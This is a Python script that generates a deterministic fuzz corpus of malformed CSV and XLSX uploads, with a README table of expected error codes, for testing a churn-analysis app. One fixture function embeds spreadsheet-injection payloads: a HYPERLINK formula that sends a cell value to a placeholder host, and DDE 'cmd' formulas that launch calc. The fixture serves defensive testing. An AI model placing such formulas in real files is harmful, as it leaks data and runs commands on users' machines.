"""Write the corpus of malformed uploads to ``tests/fixtures/bad_uploads/`` (and its README table).

Dev-time tool. Every file is small and the whole corpus is deterministic (seeded random
numbers, fixed ZIP timestamps), so running the script again rewrites the same bytes and a
diff shows only a deliberate change. Each case names the error or validation issue that
the file must produce; tests/test_bad_uploads_core.py and tests/app/test_bad_uploads.py
read that table from the README.

Usage::

    python scripts/make_bad_uploads.py [--out DIR]
"""

from __future__ import annotations

import argparse
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

REPO_ROOT = Path(__file__).resolve().parent.parent
DEFAULT_OUT = REPO_ROOT / "tests" / "fixtures" / "bad_uploads"
SEED = 20240611
_ZIP_TIME = (2024, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Case:
    """One malformed upload: its file name, what is wrong with it, and what the app must say."""

    name: str
    problem: str
    expected: str  # "error.<code>" (the file cannot be read) or "issue.<code>" (a blocking check)
    make: Callable[[], bytes]
    warnings: tuple[str, ...] = ()  # issue codes that must be shown as well


@dataclass(frozen=True)
class Accepted:
    """A case that is fine by design, so it is not in the corpus."""

    case: str
    why: str


def customers(n: int = 40, *, seed: int = 0) -> pd.DataFrame:
    """A small, plausible customer table; each case breaks it in one way."""
    rng = np.random.default_rng(SEED + seed)
    return pd.DataFrame({
        "customer_id": [f"C{i:04d}" for i in range(1, n + 1)],
        "plan": rng.choice(["basic", "plus", "premium"], n),
        "international_plan": rng.choice(["yes", "no"], n, p=[0.2, 0.8]),
        "tenure_months": rng.integers(1, 72, n),
        "service_calls": rng.integers(0, 7, n),
        "monthly_charge": rng.uniform(15, 95, n).round(2),
        "churn": np.where(rng.random(n) < 0.3, "yes", "no"),
    })


def chinese(n: int = 40, *, seed: int = 0) -> pd.DataFrame:
    frame = customers(n, seed=seed)
    frame["plan"] = frame["plan"].map({"basic": "基础套餐", "plus": "畅享套餐", "premium": "尊享套餐"})
    frame["churn"] = frame["churn"].map({"yes": "是", "no": "否"})
    return frame.rename(columns={"customer_id": "客户编号", "plan": "套餐", "international_plan": "国际漫游",
                                 "tenure_months": "在网月数", "service_calls": "客服来电次数",
                                 "monthly_charge": "月费", "churn": "是否流失"})


def csv(frame: pd.DataFrame, *, sep: str = ",", encoding: str = "utf-8") -> bytes:
    return frame.to_csv(index=False, sep=sep, lineterminator="\n").encode(encoding)


def with_target(values: list[str], *, seed: int = 0, frame: pd.DataFrame | None = None) -> pd.DataFrame:
    frame = customers(seed=seed) if frame is None else frame
    target = frame.columns[-1]
    return frame.assign(**{target: [values[i % len(values)] for i in range(len(frame))]})


def three_values(frame: pd.DataFrame | None = None, *, seed: int = 0) -> pd.DataFrame:
    return with_target(["yes", "no", "maybe"], seed=seed, frame=frame)


def fixed_zip(files: dict[str, bytes]) -> bytes:
    """A ZIP archive whose bytes depend neither on the clock nor on the zlib build (entries are stored)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=_ZIP_TIME), data)
    return buffer.getvalue()


def repack(data: bytes) -> bytes:
    """The same ZIP (e.g. an .xlsx) with fixed timestamps, so the file is reproducible.

    openpyxl stamps the save time into docProps/core.xml; that is fixed too.
    """
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {info.filename: archive.read(info) for info in archive.infolist()}
    if "docProps/core.xml" in files:
        files["docProps/core.xml"] = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z",
                                            files["docProps/core.xml"])
    return fixed_zip(files)


def xlsx(fill: Callable) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    fill(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return repack(buffer.getvalue())


def xlsx_frame(frame: pd.DataFrame) -> bytes:
    def fill(sheet):
        sheet.title = "Customers"
        sheet.append(list(frame.columns))
        for row in frame.itertuples(index=False):
            sheet.append([v.item() if hasattr(v, "item") else v for v in row])
    return xlsx(fill)


def png() -> bytes:
    """A real 4x4 grey PNG image."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    pixels = b"".join(b"\x00" + bytes([128] * 4) for _ in range(4))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b""))


def pdf() -> bytes:
    """A one-page PDF with a compressed content stream, as every PDF writer makes them."""
    stream = zlib.compress(b"BT /F1 12 Tf 72 720 Td (customer_id,churn) Tj ET", 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    for number, body in enumerate(objects, 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def long_cell() -> bytes:
    frame = three_values(seed=9)
    notes = ["short note"] * len(frame)
    notes[3] = "very long note " * 13_654  # about 200 KB in one cell
    return csv(frame.assign(notes=notes))


def long_target_value() -> bytes:
    frame = customers(seed=38)
    churn = frame["churn"].tolist()
    churn[2] = "see the notes: " + "customer said they might leave " * 650  # about 20 KB
    return csv(frame.assign(churn=churn))


def nul_bytes() -> bytes:
    text = csv(customers(seed=10)).decode()
    lines = text.splitlines(keepends=True)
    lines[5] = lines[5].replace(",", "\x00,", 3)  # line 6: the fifth customer
    return "".join(lines).encode()


def formula_cells() -> bytes:
    frame = three_values(seed=11)
    plan = frame["plan"].tolist()
    plan[0] = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")'
    plan[1] = "+cmd|' /C calc'!A0"
    plan[2] = "@SUM(1+1)*cmd|' /C calc'!A0"
    plan[3] = "-2+3+cmd|' /C calc'!A0"
    return csv(frame.assign(plan=plan, note=["=1+1"] + ["ok"] * (len(frame) - 1)))


def text_in_numeric() -> bytes:
    frame = three_values(seed=12)
    calls = frame["service_calls"].astype(object)
    calls[4], calls[9] = "four", "n/a?"
    return csv(frame.assign(service_calls=calls))


def rows_with_too_many_fields() -> bytes:
    lines = csv(customers(seed=13)).decode().splitlines(keepends=True)
    lines[7] = lines[7].rstrip("\n") + ",extra,fields\n"
    return "".join(lines).encode()


def unbalanced_quotes() -> bytes:
    lines = csv(customers(seed=14)).decode().splitlines(keepends=True)
    lines[3] = lines[3].replace("C0003,", 'C0003,"', 1)
    return "".join(lines).encode()


def mixed_delimiters() -> bytes:
    frame = customers(seed=15)
    return csv(frame.head(0)) + csv(frame, sep=";").split(b"\n", 1)[1]


def semicolon_rows_in_comma_file() -> bytes:
    frame = customers(seed=16)
    lines = csv(frame).decode().splitlines(keepends=True)
    lines[6] = lines[6].replace(",", ";")
    return "".join(lines).encode()


def truncated_xlsx() -> bytes:
    data = xlsx_frame(customers(seed=17))
    return data[: len(data) // 2]


def empty_sheet() -> bytes:
    return xlsx(lambda sheet: setattr(sheet, "title", "Customers"))


def xlsx_header_only() -> bytes:
    return xlsx(lambda sheet: sheet.append(list(customers().columns)))


def uncached_formulas() -> bytes:
    """A workbook written by a script: the churn column holds formulas that Excel never calculated."""
    frame = customers(seed=18)

    def fill(sheet):
        sheet.append(list(frame.columns))
        for i, row in enumerate(frame.itertuples(index=False), start=2):
            values = [v.item() if hasattr(v, "item") else v for v in row][:-1]
            sheet.append([*values, f'=IF(E{i}>3,"yes","no")'])
    return xlsx(fill)


def zip_of_csv() -> bytes:
    """Two tables in one archive: a ZIP of exactly one CSV is read, so this one must say which to unzip."""
    return fixed_zip({"customers.csv": csv(customers(seed=19)), "contracts.csv": csv(customers(seed=18))})


def utf16_without_bom() -> bytes:
    return csv(with_target(["no"], seed=20), encoding="utf-16-le")


def wide() -> bytes:
    header = ",".join(["customer_id", *(f"f{i}" for i in range(2000)), "churn"])
    rows = [",".join([f"C{r}", *("1" for _ in range(2000)), "yes" if r % 2 else "no"]) for r in range(2)]
    return "\n".join([header, *rows, ""]).encode()


def html_page() -> bytes:
    return (b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n"
            b"<body><form action=\"/login\" method=\"post\"><input name=\"user\"><input name=\"password\" "
            b"type=\"password\"></form></body></html>\n")


def old_xls() -> bytes:
    """The first bytes of an Excel 97-2003 (.xls) workbook: an OLE2 compound file."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHH", 0x3E, 3, 0xFFFE)
    rng = np.random.default_rng(SEED + 21)
    return header + bytes(512 - len(header)) + rng.integers(0, 256, 1536, dtype=np.uint8).tobytes()


def random_bytes() -> bytes:
    return np.random.default_rng(SEED).integers(0, 256, 4096, dtype=np.uint8).tobytes()


def random_high_bytes() -> bytes:
    """Random bytes without NUL, so only the text decoder can tell it is not a table."""
    return np.random.default_rng(SEED + 1).integers(1, 256, 4096, dtype=np.uint8).tobytes()


def duplicate_ids() -> bytes:
    frame = customers(seed=22)
    frame.loc[[5, 6, 7], "customer_id"] = "C0001"
    return csv(frame)


def gb(encoding: str, *, seed: int) -> bytes:
    frame = with_target(["是", "否", "未知"], frame=chinese(seed=seed))
    if encoding == "gb18030":  # a character outside GBK: only GB18030 encodes it
        frame["套餐"] = frame["套餐"].str.replace("尊享", "𠮷享")
    return csv(frame, encoding=encoding)


def case_only_names() -> bytes:
    frame = customers(seed=23)
    return csv(frame.assign(Service_Calls=frame["service_calls"] + 1))


def duplicate_names() -> bytes:
    frame = three_values(seed=24)
    text = csv(frame.assign(extra=frame["tenure_months"])).decode()
    header, rest = text.split("\n", 1)
    return (header.replace("extra", "tenure_months") + "\n" + rest).encode()


def empty_name() -> bytes:
    frame = three_values(seed=25)
    text = csv(frame.assign(blank=frame["monthly_charge"] * 2)).decode()
    header, rest = text.split("\n", 1)
    return (header.replace(",blank", ",") + "\n" + rest).encode()


CASES: tuple[Case, ...] = (
    # -- not a table at all
    Case("empty.csv", "0 bytes", "error.empty_file", lambda: b""),
    Case("whitespace_only.csv", "only spaces, tabs and newlines", "error.empty_file",
         lambda: b"  \n\n\t \r\n   \n"),
    Case("bom_only.csv", "a UTF-8 byte-order mark and a newline, nothing else", "error.empty_file",
         lambda: b"\xef\xbb\xbf\r\n"),
    Case("header_only.csv", "a header row and no data rows", "error.no_rows",
         lambda: csv(customers().head(0))),
    Case("header_only_bom.csv", "a header row after a UTF-8 BOM, no data rows", "error.no_rows",
         lambda: b"\xef\xbb\xbf" + csv(customers().head(0))),
    Case("binary_junk.csv", "4 KB of random bytes", "error.binary_file", random_bytes),
    Case("binary_junk_no_nul.csv", "4 KB of random bytes without any NUL byte (only the decoder can tell)",
         "error.binary_file", random_high_bytes),
    Case("png_renamed.csv", "a PNG image renamed .csv", "error.binary_file", png),
    Case("pdf_renamed.csv", "a PDF document renamed .csv", "error.binary_file", pdf),
    Case("xls_renamed.csv", "an old Excel 97-2003 (.xls) workbook renamed .csv", "error.binary_file", old_xls),
    Case("zip_renamed.csv", "a ZIP archive holding two CSVs, renamed .csv", "error.zip_archive", zip_of_csv),
    Case("html_page.csv", "a web page (a sign-in form) saved as .csv", "issue.no_target", html_page),
    Case("too_many_columns.csv", "2,002 columns, over the 2,000-column limit", "error.too_many_columns", wide),
    # -- workbooks
    Case("truncated.xlsx", "an .xlsx cut off half way", "error.bad_xlsx", truncated_xlsx),
    Case("empty_sheet.xlsx", "a workbook whose only sheet has no cells", "error.empty_sheet", empty_sheet),
    Case("header_only.xlsx", "a workbook with a header row and no data rows", "error.no_rows", xlsx_header_only),
    Case("uncached_formulas.xlsx", "the churn column holds formulas that no spreadsheet program ever calculated, "
         "so it has no values", "issue.target_empty", uncached_formulas),
    # -- encodings and delimiters: the text is decoded and split, and the real problem is named
    Case("utf16_no_bom.csv", "UTF-16 (little-endian) text without a byte-order mark; every customer has "
         "churn = no", "issue.target_constant", utf16_without_bom),
    Case("gbk_three_values.csv", "GBK text with Chinese headers; the target has three values (是, 否, 未知)",
         "issue.target_multiclass", lambda: gb("gbk", seed=26)),
    Case("gb18030_three_values.csv", "GB18030 text (one character outside GBK); the target has three values",
         "issue.target_multiclass", lambda: gb("gb18030", seed=27)),
    Case("semicolon_no_target.csv", "semicolon-separated; no column looks like a churn target",
         "issue.no_target", lambda: csv(customers(seed=28).drop(columns="churn"), sep=";")),
    Case("tab_constant_target.tsv", "tab-separated; every customer has churn = no", "issue.target_constant",
         lambda: csv(with_target(["no"], seed=29), sep="\t")),
    Case("mixed_delimiters.csv", "the header is comma-separated, the rows semicolon-separated",
         "error.mixed_delimiters", mixed_delimiters),
    Case("semicolon_row.csv", "one row of a comma-separated file uses semicolons", "error.mixed_delimiters",
         semicolon_rows_in_comma_file),
    Case("unbalanced_quotes.csv", "a quote opened on line 4 is never closed", "error.unclosed_quote",
         unbalanced_quotes),
    Case("too_many_fields.csv", "line 8 has two fields more than the header", "error.too_many_fields",
         rows_with_too_many_fields),
    Case("nul_bytes.csv", "NUL bytes inside the cells of line 6", "error.nul_bytes", nul_bytes),
    # -- the target
    Case("no_target.csv", "no column looks like a churn target", "issue.no_target",
         lambda: csv(customers(seed=30).rename(columns={"churn": "segment"}).assign(segment="a"))),
    Case("target_three_values.csv", "the churn column holds yes, no and maybe", "issue.target_multiclass",
         lambda: csv(three_values(seed=31))),
    Case("target_constant.csv", "every customer has churn = no", "issue.target_constant",
         lambda: csv(with_target(["no"], seed=32))),
    Case("target_all_missing.csv", "the churn column is empty in every row", "issue.target_empty",
         lambda: csv(with_target([""], seed=33)), warnings=("all_missing",)),
    Case("target_ambiguous.csv", "the churn column holds two values, neither obviously churn (gold, silver)",
         "issue.positive_ambiguous", lambda: csv(with_target(["gold", "silver"], seed=34))),
    Case("long_target_value.csv", "one churn value is 20 KB of text (the message must quote it short)",
         "issue.target_multiclass", long_target_value),
    Case("single_data_row.csv", "a header and one customer", "issue.target_constant",
         lambda: csv(customers(1, seed=36))),
    # -- ids, columns and cells
    Case("duplicate_ids.csv", "three rows reuse the id C0001", "issue.duplicate_ids", duplicate_ids),
    Case("case_only_names.csv", "service_calls and Service_Calls differ only in case (the database cannot "
         "hold both)", "issue.column_case_clash", case_only_names),
    Case("id_and_target_only.csv", "only an id and a churn column, no feature", "issue.no_features",
         lambda: csv(customers(seed=37)[["customer_id", "churn"]])),
    Case("single_column.csv", "one column (monthly charges) and nothing else", "issue.no_target",
         lambda: csv(customers(seed=35)[["monthly_charge"]])),
    Case("text_in_numeric.csv", "service_calls holds 'four' and 'n/a?'; the target has three values",
         "issue.target_multiclass", text_in_numeric, warnings=("non_numeric",)),
    Case("duplicate_column_names.csv", "two columns are called tenure_months; the target has three values",
         "issue.target_multiclass", duplicate_names, warnings=("duplicate_columns",)),
    Case("empty_column_name.csv", "one column has an empty name (read as 'Unnamed: 7'); the target has three "
         "values", "issue.target_multiclass", empty_name),
    Case("long_cell.csv", "one 200 KB cell in a notes column (over the csv module's field limit); the target "
         "has three values", "issue.target_multiclass", long_cell),
    Case("formula_cells.csv", "spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3) in text cells; the target "
         "has three values", "issue.target_multiclass", formula_cells),
)

ACCEPTED: tuple[Accepted, ...] = (
    Accepted("negative service calls or tenure", "read and validated as ordinary numbers; the column is then "
             "not offered as the service-call (or tenure) count, which must be a count of 0 or more"),
    Accepted("text in a numeric column, on its own", "a warning (`issue.non_numeric`); those values count as "
             "missing"),
    Accepted("duplicate column names, on its own", "a warning (`issue.duplicate_columns`); the copies are "
             "renamed with .1, .2"),
    Accepted("a column with an empty name, on its own", "read as 'Unnamed: N' and analysed like any column"),
    Accepted("a cell of 200 KB (or 1 MB), on its own", "read as it is; messages quote at most 60 characters "
             "of any value"),
    Accepted("formula-like text (=, +, -, @) in cells, on its own", "read as plain text and never evaluated; "
             "the Risk page's CSV and XLSX exports prefix such cells with ' so a spreadsheet does not run them"),
    Accepted("bombs, far cells, over-long cells and lines, 26 million empty cells; .csv.gz, a ZIP of one CSV, "
             "Parquet, .xlsm, decimal commas, 30-digit integers, a bare CR in quotes", "generated at test time by "
             "tests/hostile_files.py (too large unpacked to keep here); each is refused with its code or read"),
)


def readme(cases: tuple[Case, ...]) -> str:
    lines = [
        "# Malformed uploads (fuzz corpus)",
        "",
        "Written by `python scripts/make_bad_uploads.py`; do not edit by hand. Every file must be refused "
        "with a clear message in English and Chinese, without a crash and without changing the active "
        "dataset. `error.<code>` means the file cannot be read at all; `issue.<code>` means it is read but "
        "a blocking check fails (the Data page offers no Save). A case that alone only warns (or is fine) "
        "also gets a three-valued target, so that the file is blocked and the warning is shown beside the "
        "error. tests/test_bad_uploads_core.py and tests/app/test_bad_uploads.py read this table.",
        "",
        "| file | what is wrong | expected | also warns |",
        "|---|---|---|---|",
    ]
    for case in cases:
        warns = ", ".join(f"`issue.{w}`" for w in case.warnings)
        lines.append(f"| `{case.name}` | {case.problem} | `{case.expected}` | {warns} |")
    lines += ["", "## Accepted by design (so not in the corpus on their own)", ""]
    lines += [f"- {a.case}: {a.why}." for a in ACCEPTED]
    return "\n".join(lines) + "\n"


def write_corpus(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    for stale in out.iterdir():
        if stale.is_file():
            stale.unlink()
    written = []
    for case in CASES:
        path = out / case.name
        path.write_bytes(case.make())
        written.append(path)
    (out / "README.md").write_text(readme(CASES), encoding="utf-8")
    return written


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help=f"folder to (re)write (default {DEFAULT_OUT})")
    args = parser.parse_args(argv)
    written = write_corpus(args.out)
    total = sum(p.stat().st_size for p in written)
    print(f"wrote {len(written)} files ({total / 1024:.0f} KB) and README.md to {args.out}")


if __name__ == "__main__":
    main()
